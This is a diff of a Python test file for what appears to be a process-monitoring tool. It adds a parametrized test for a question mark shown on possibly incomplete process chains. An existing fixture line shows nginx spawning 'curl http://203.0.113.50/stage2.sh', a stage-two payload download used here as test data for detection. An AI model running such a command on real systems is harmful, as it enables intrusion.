@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 
+import pytest
 from rich.console import Console
 
 from pipeline.counters import Counters
@@ -67,6 +68,17 @@ def test_a_line_has_time_pid_user_chain_and_command_in_a_pipe() -> None:
     assert pid.isdigit()
     assert user == "root"
     assert rest == "systemd → nginx → curl   curl http://203.0.113.50/stage2.sh"
+
+
+@pytest.mark.parametrize("width", [None, 60])
+@pytest.mark.parametrize(("doubt", "mark"), [(("loss", "snapshot"), " ?"), (("cut", "snapshot"), ""), ((), "")])
+def test_a_chain_that_may_not_be_the_whole_truth_has_a_question_mark(
+    doubt: tuple[str, ...], mark: str, width: int | None
+) -> None:
+    ((event, process),) = _execs(("curl",), above=("nginx",) * 9)
+    line = _feed(Console(file=io.StringIO()), Counters()).line(event, process._replace(doubt=doubt), width)
+    assert line.plain.endswith(f" → curl{mark}   curl")
+    assert width is None or line.cell_len <= width
 
 
 def test_secrets_are_masked() -> None:
